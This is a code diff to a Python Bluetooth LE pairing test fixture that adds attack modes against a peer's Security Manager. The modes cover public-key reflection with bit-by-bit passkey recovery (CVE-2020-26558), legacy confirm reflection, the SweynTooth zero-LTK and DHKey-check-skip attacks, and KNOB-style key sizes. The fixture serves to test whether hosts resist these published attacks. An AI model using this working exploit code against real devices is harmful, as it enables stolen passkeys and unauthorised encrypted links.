@@ -103,7 +103,38 @@ def address_type(address):
 #                Connections): the other side's check fails (DHKey Check Failed, 0x0B);
 #   silent       after its Pairing Request or Response it sends no SMP command at all (nor
 #                Pairing Failed): the other side's 30 s SMP timeout runs out.
+# and the published attacks on a host's Security Manager (every SMP command the device receives is
+# then logged, {"kind": "smp-received", "code": n}, and each step of the attack, {"kind": "attack",
+# "step": ...}), so a test sees how far the other side let it go:
+#   reflect-public-key  (LE Secure Connections; CVE-2020-26558) the public key it sends is the
+#                other side's own with Y negated, (X, p - Y): as responder the key just received;
+#                as initiator the other side's key from an earlier pairing in this process (a
+#                host that kept its key pair gives it away), else its own. f4 takes only X, so
+#                in Passkey Entry it answers every round's Pairing Confirm and Random with the
+#                initiator's own and learns the passkey bit by bit ("passkey-bit" steps, then
+#                "passkey-learned"); it cannot compute the DHKey, so it stops at the DHKey check;
+#   reflect-confirm  (LE legacy, as responder) its Pairing Confirm is the initiator's and its
+#                Pairing Random the initiator's, so the initiator's c1 check holds; it answers the
+#                LTK request with the STK those values give (s1 of TK, Mrand, Mrand);
+#   key-size-17, key-size-7  its Pairing Request or Response offers that Maximum Encryption Key
+#                Size (17: outside 7-16, SweynTooth CVE-2019-19196; 7: allowed by the
+#                specification, below a host's minimum of 16: KNOB for LE);
+#   encrypt-early  (central) LE Enable Encryption with an all-zero key right after the Pairing
+#                Response, before any key exists (SweynTooth CVE-2019-19194, the zero LTK);
+#   skip-dhkey-check  (central, LE Secure Connections) it starts encryption with the LTK it
+#                computed instead of sending its DHKey Check (SweynTooth's DHCheck skip);
+#                after either, once the controller says how encrypting went ("encrypted" or
+#                "refused" steps), it drops the link;
+#   bad-identity-address  it distributes an identity address that is neither public nor
+#                static random (a resolvable private one, 0x4A...).
 FAULTS = ("confirm", "dhkey-check", "silent")
+ATTACKS = ("reflect-public-key", "reflect-confirm", "key-size-17", "key-size-7", "encrypt-early",
+           "skip-dhkey-check", "bad-identity-address")
+# P-256's prime: (X, P256_PRIME - Y) is the point with Y negated.
+P256_PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1
+# The public key each peer (by address) sent in this process's pairings, for reflect-public-key as
+# initiator: (x, y) in the air's byte order.
+SEEN_PUBLIC_KEYS = {}
 
 
 class Options:
@@ -117,8 +148,8 @@ class Options:
             raise ValueError(f"IO capability {io!r}: one of {', '.join(IO_CAPABILITIES)}")
         if passkey is not None and not 0 <= passkey <= 999999:
             raise ValueError("a passkey is 0 to 999999")
-        if fault is not None and fault not in FAULTS:
-            raise ValueError(f"fault {fault!r}: one of {', '.join(FAULTS)}")
+        if fault is not None and fault not in FAULTS + ATTACKS:
+            raise ValueError(f"fault {fault!r}: one of {', '.join(FAULTS + ATTACKS)}")
         self.io, self.legacy, self.mitm, self.bonding = io, legacy, mitm, bonding
         self.passkey, self.reject_comparison = passkey, reject_comparison
         self.fault = fault
@@ -186,6 +217,11 @@ class FixtureSession(smp.Session):
         super().__init__(manager, connection, pairing_config, is_initiator)
         options = getattr(pairing_config.delegate, "options", None)
         self.fault = getattr(options, "fault", None)
+        self.emit = getattr(pairing_config.delegate, "emit", lambda kind, **fields: None)
+        self.reflected_x = None  # reflect-public-key: the X both public keys now have
+        self.learned_passkey = 0
+        if self.fault in ("key-size-17", "key-size-7"):
+            self.maximum_encryption_key_size = int(self.fault.rsplit("-", 1)[1])
         self.ltk_ediv = secrets.randbelow(0x10000)
         self.ltk_rand = secrets.token_bytes(8)
         self.pairing_task = None
@@ -201,6 +237,118 @@ class FixtureSession(smp.Session):
         if self.fault == "dhkey-check" and isinstance(command, smp.SMP_Pairing_DHKey_Check_Command):
             command = smp.SMP_Pairing_DHKey_Check_Command(dhkey_check=flipped(command.dhkey_check))
         super().send_command(command)
+
+    # MARK: the attacks (ATTACKS)
+
+    def on_smp_command(self, command):
+        if self.fault in ATTACKS:
+            self.emit("smp-received", code=int(command.code))
+        super().on_smp_command(command)
+
+    def peer_key_name(self):
+        return str(self.connection.peer_address).split("/")[0].upper()
+
+    def send_public_key_command(self):
+        if self.fault != "reflect-public-key":
+            return super().send_public_key_command()
+        if self.is_initiator:
+            known = SEEN_PUBLIC_KEYS.get(self.peer_key_name())
+        else:
+            known = (bytes(self.peer_public_key_x), bytes(self.peer_public_key_y))
+        if known is None:
+            self.emit("attack", step="own-public-key", message="no key of this peer seen yet: this pairing learns it")
+            return super().send_public_key_command()
+        x, y = known
+        negated = (P256_PRIME - int.from_bytes(y, "little")).to_bytes(32, "little")
+        self.reflected_x = x
+        self.emit("attack", step="reflected-public-key")
+        self.send_command(smp.SMP_Pairing_Public_Key_Command(public_key_x=x, public_key_y=negated))
+
+    def on_smp_pairing_public_key_command(self, command):
+        SEEN_PUBLIC_KEYS[self.peer_key_name()] = (bytes(command.public_key_x), bytes(command.public_key_y))
+        if self.fault == "reflect-public-key" and self.is_initiator and self.reflected_x is not None:
+            # Its own key was the peer's reflected: there is no DHKey to compute, and in Passkey
+            # Entry it cannot make a confirm value; it waits for the peer's answer.
+            self.peer_public_key_x, self.peer_public_key_y = command.public_key_x, command.public_key_y
+            return
+        super().on_smp_pairing_public_key_command(command)
+
+    def reflecting_rounds(self):
+        return self.fault == "reflect-public-key" and self.reflected_x is not None and not self.is_initiator
+
+    def on_smp_pairing_confirm_command(self, command):
+        if self.reflecting_rounds() or (self.fault == "reflect-confirm" and not self.sc and not self.is_initiator):
+            self.confirm_value = command.confirm_value
+            self.send_command(smp.SMP_Pairing_Confirm_Command(confirm_value=command.confirm_value))
+            return
+        super().on_smp_pairing_confirm_command(command)
+
+    def on_smp_pairing_random_command(self, command):
+        if self.reflecting_rounds():
+            # Which passkey bit makes the initiator's confirm: f4(X, X, Na, 0x80 | bit).
+            for bit in (0, 1):
+                if smp.crypto.f4(self.reflected_x, self.reflected_x, command.random_value, bytes([0x80 | bit])) == self.confirm_value:
+                    self.learned_passkey |= bit << self.passkey_step
+                    self.emit("attack", step="passkey-bit", round=self.passkey_step + 1, bit=bit)
+            self.send_command(smp.SMP_Pairing_Random_Command(random_value=command.random_value))
+            self.passkey_step += 1
+            if self.passkey_step == 20:
+                self.emit("attack", step="passkey-learned", passkey=self.learned_passkey)
+            return
+        if self.fault == "reflect-confirm" and not self.sc and not self.is_initiator:
+            mrand = command.random_value
+            self.stk = smp.crypto.s1(self.tk, mrand, mrand)
+            self.emit("attack", step="reflected-confirm")
+            self.send_command(smp.SMP_Pairing_Random_Command(random_value=mrand))
+            return
+        super().on_smp_pairing_random_command(command)
+
+    def on_smp_pairing_dhkey_check_command(self, command):
+        if self.reflecting_rounds():
+            self.emit("attack", step="no-dhkey", message="the reflected key has no DHKey: the attack ends here")
+            self.send_pairing_failed(smp.ErrorCode.UNSPECIFIED_REASON)
+            return
+        super().on_smp_pairing_dhkey_check_command(command)
+
+    def encrypt_out_of_order(self, key):
+        """Starts encryption with `key` out of the pairing's order; once the controller says
+        how it went ("encrypted" or "refused"), drops the link: the attack is over either way
+        (nothing waits out the 30 s SMP timeout)."""
+        connection = self.connection
+
+        def settle(step):
+            if not getattr(connection, "attack_settled", False):
+                connection.attack_settled = True
+                self.emit("attack", step=step)
+                asyncio.ensure_future(connection.disconnect())
+
+        connection.on("connection_encryption_change",
+                      lambda: settle("encrypted" if connection.is_encrypted else "refused"))
+        connection.on("connection_encryption_failure", lambda status: settle("refused"))
+        self.start_encryption(key)
+
+    def on_smp_pairing_response_command(self, command):
+        super().on_smp_pairing_response_command(command)
+        if self.fault == "encrypt-early":
+            self.emit("attack", step="encrypt-early")
+            self.encrypt_out_of_order(bytes(16))
+
+    def send_pairing_dhkey_check_command(self):
+        if self.fault == "skip-dhkey-check" and self.is_initiator:
+            self.emit("attack", step="skip-dhkey-check")
+            self.encrypt_out_of_order(self.ltk)
+            return
+        super().send_pairing_dhkey_check_command()
+
+    def send_identity_address_command(self):
+        if self.fault != "bad-identity-address":
+            return super().send_identity_address_command()
+        from bumble.hci import Address
+        address = Address("4A:52:41:57:42:4C", Address.RANDOM_DEVICE_ADDRESS)
+        self.emit("attack", step="bad-identity-address", address=str(address).split("/")[0])
+        self.send_command(smp.SMP_Identity_Address_Information_Command(addr_type=address.address_type, bd_addr=address))
+
+    # MARK: keys
 
     def get_long_term_key(self, rand, ediv):
         if not self.sc and not self.completed:
@@ -550,10 +698,12 @@ def add_options(group, prefix, who):
                             "type one on stdin, then fails with Passkey Entry Failed)")
     group.add_argument(f"--{prefix}-reject-comparison", action="store_true",
                        help=f"{who}: answer a numeric comparison no (Pairing Failed 0x0C)")
-    group.add_argument(f"--{prefix}-fault", choices=list(FAULTS),
+    group.add_argument(f"--{prefix}-fault", choices=list(FAULTS + ATTACKS),
                        help=f"{who}: pair wrongly: confirm (its Pairing Confirm values corrupted: the peer fails "
                             "with 0x04), dhkey-check (its DHKey Check corrupted: 0x0B), silent (no SMP command after "
-                            "the Pairing Request/Response: the peer's 30 s SMP timeout)")
+                            "the Pairing Request/Response: the peer's 30 s SMP timeout); or an attack on the peer's Security Manager "
+                            "(ATTACKS in bumble_fixture/pairing.py: reflect-public-key, reflect-confirm, key-size-17, "
+                            "key-size-7, encrypt-early, skip-dhkey-check, bad-identity-address)")
 
 
 def options_from(args, prefix):
